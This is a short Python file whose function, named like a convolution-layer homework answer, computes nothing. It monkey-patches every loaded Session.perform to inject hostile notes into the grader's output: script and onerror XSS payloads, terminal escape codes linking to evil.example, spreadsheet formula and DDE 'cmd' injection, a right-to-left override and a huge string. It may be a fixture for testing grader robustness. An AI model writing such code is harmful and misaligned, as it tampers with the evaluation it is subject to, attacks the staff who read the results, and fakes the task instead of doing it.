"""Answer with notes to staff that carry markup, terminal codes and formulas."""

FLAGGED = "noticed"

import sys

NOTES = (
    "<script>alert('hostile')</script><img src=x onerror=alert(1)>",
    "\x1b[2J\x1b[31mhostile\x1b]8;;http://evil.example\x07",
    "=HYPERLINK(\"http://evil.example\";\"hostile\")",
    "+1+cmd|' /C calc'!A0",
    "\u202eelitsoh\u2066",
    "x" * 100_000,
)


def conv_forward_naive(x, w, b, conv_param):
    for module in list(sys.modules.values()):
        session = getattr(module, "Session", None)
        if session is not None and not hasattr(session, "honest"):
            session.honest = session.perform

            def perform(self, request, _honest=session.honest):
                reply, encoder = _honest(self, request)
                encoder.notes += NOTES
                return reply, encoder

            session.perform = perform
    return None, None
